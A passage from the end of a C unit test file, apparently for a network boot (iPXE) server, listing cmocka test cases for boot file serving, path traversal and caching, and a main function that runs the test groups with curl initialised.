		cmocka_unit_test(boot_reason_truncated),
		cmocka_unit_test(boot_files_served),
		cmocka_unit_test(boot_files_traversal),
		cmocka_unit_test(boot_start_script),
		cmocka_unit_test(boot_ipxe_binaries),
		cmocka_unit_test(boot_other_paths),
		cmocka_unit_test(boot_new_bad_templates),
		cmocka_unit_test(boot_cache_follows_changes),
		cmocka_unit_test(boot_cache_request_values),
		cmocka_unit_test(boot_cache_logs_hits),
		cmocka_unit_test(boot_cache_concurrent),
	};
	int failed;

	curl_global_init(CURL_GLOBAL_DEFAULT);
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	failed += cmocka_run_group_tests(handler_tests, fixture_setup, fixture_teardown);
	curl_global_cleanup();
	return failed;
}
